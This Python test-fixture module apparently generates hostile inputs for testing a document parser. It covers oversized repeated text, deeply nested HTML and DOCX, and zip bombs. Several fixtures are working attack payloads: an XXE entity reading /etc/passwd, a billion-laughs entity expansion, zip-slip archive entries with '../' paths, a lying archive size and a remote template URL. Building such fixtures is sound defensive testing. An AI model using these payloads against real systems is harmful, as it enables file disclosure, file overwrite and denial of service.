"""Texts whose shape is the attack: too many of one thing, too deep, too long; sizes grow with one number."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Mapping
from random import Random
from types import MappingProxyType
from typing import Final

from tests.hostile.prose import han
from tests.office_documents import Document, archive, paragraph

#: Repeated pieces; a text of each is as long as asked for.
REPEATED: Final = (
    "(",
    "（",
    "[",
    "]",
    "*",
    "_",
    "`",
    "“",
    "《",
    "{",
    "<",
    "&",
    "#",
    "\\",
    "|",
    ">",
    "-",
    "~",
    "。",
    "!",
    "第",
    "1",
    " ",
    "\u3000",
    "\u200b",
    "\ufffd",
    "[a](",
    "**a",
    "<b>",
    "&lt;",
    "{#p1}",
    "a\u0301",
    "渠1",
    "http://",
    "a@",
    "[1]",
    "一、",
    "（一）",
)
REPEATED_LINES: Final = (
    "# a",
    "一、石桥",
    "（一）渡口",
    "1. 渡口",
    "第一章 渡口",
    "- a",
    "> a",
    "> > > a",
    "a | b",
    "| --- |",
    "作者：何",
    "第1篇：渡口",
    "***",
    "===",
    "[1] a",
    "篇一：渡口",
    "```",
    "来源：渡口",
    "a-",
    "1",
)
_DEEP: Final = 5_000


def texts(size: int) -> dict[str, bytes]:
    """Sources by file name, each about `size` bytes."""
    random = Random(1)
    opening = f"渡口的灯\n\n{han(random, 6)}\n\n"
    made: dict[str, bytes] = {}
    for number, piece in enumerate(REPEATED):
        body = piece * (size // len(piece.encode()))
        made[f"repeated-{number:02}.txt"] = f"{opening}{body}\n\n{han(random, 4)}\n".encode()
    for number, line in enumerate(REPEATED_LINES):
        body = f"{line}\n" * (size // (len(line.encode()) + 1))
        made[f"lines-{number:02}.txt"] = f"{opening}{body}\n{han(random, 4)}\n".encode()
        made[f"lines-{number:02}.md"] = f"# 渡口\n\n{han(random, 6)}\n\n{body}\n".encode()
    made["quotes.md"] = ("# 渡口\n\n" + ">" * size + " " + han(random, 6)).encode()
    made["lists.md"] = ("# 渡口\n\n" + "".join(f"{' ' * depth}- {depth}\n" for depth in range(int(size**0.5)))).encode()
    made["brackets.md"] = ("# 渡口\n\n" + "[" * (size // 2) + "](x)" * (size // 8)).encode()
    made["one-line.txt"] = (opening + han(random, size // 45)).encode()
    return made


def deep(size: int = _DEEP) -> dict[str, bytes]:
    """Pages and documents nested `size` deep, and archives that unpack to far more than they are."""
    inner = "w:sdt><w:sdtContent"
    nest = f"<{inner}>" * size + paragraph("渡口") + f"</{inner.split('><')[1]}></w:sdt>" * size
    return {
        "deep-div.html": (f"<html><body>{'<div>' * size}渡口{'</div>' * size}</body></html>").encode(),
        "deep-font.html": (f"<html><body><p>{'<font><b><i>' * size}渡口。</p></body></html>").encode(),
        "deep-table.html": (f"<html><body>{'<table><tr><td>' * size}渡口</body></html>").encode(),
        "deep-list.html": (f"<html><body>{'<ul><li>' * size}渡口</body></html>").encode(),
        "deep-quote.html": (f"<html><body>{'<blockquote>' * size}渡口</body></html>").encode(),
        "open.html": (f"<html><body><p>渡口{'<' * size}{'<a ' * size}{'&#' * size}").encode(),
        "attributes.html": (f"<html><body><p {' '.join(f'a{n}=1' for n in range(size))}>渡口</p>").encode(),
        "deep.docx": Document(nest).data(),
        **{name: make() for name, make in _DOCUMENTS.items()},
    }


def _bomb() -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * 60_000_000})


def _many() -> bytes:
    return archive({f"word/{number}.xml": b"<x/>" for number in range(2_500)})


def _lying() -> bytes:
    """An archive that announces a small size for a large part."""
    data = bytearray(archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b" " * 40_000_000}))
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    text = f'<!DOCTYPE x [<!ENTITY e0 "ha">{entities}]><w:document><w:body>&e11;</w:body></w:document>'
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": text.encode()})


def _outside() -> bytes:
    text = '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><w:document>&y;</w:document>'
    return archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": text.encode()})


def _climbing() -> bytes:
    outer = io.BytesIO(Document(paragraph("渡口的灯。" * 20)).data())
    with zipfile.ZipFile(outer, "a") as packed:
        packed.writestr("../../../../obeyed.txt", b"obeyed")
        packed.writestr("/obeyed.txt", b"obeyed")
    return outer.getvalue()


_DOCUMENTS: Final[Mapping[str, Callable[[], bytes]]] = MappingProxyType(
    {
        "bomb.docx": _bomb,
        "many.docx": _many,
        "lying.docx": _lying,
        "laughs.docx": _laughs,
        "outside.docx": _outside,
        "climbing.docx": _climbing,
        "torn.docx": lambda: Document(paragraph("渡口")).data()[:-40],
        "empty.docx": lambda: b"",
        "remote.docx": lambda: Document(
            paragraph("渡口"), relationships=[("rId9", "attachedTemplate", "http://hostile.invalid/x.dotm", True)]
        ).data(),
        "macros.docx": lambda: Document(paragraph("渡口"), files={"word/vbaProject.bin": b"x"}).data(),
    }
)
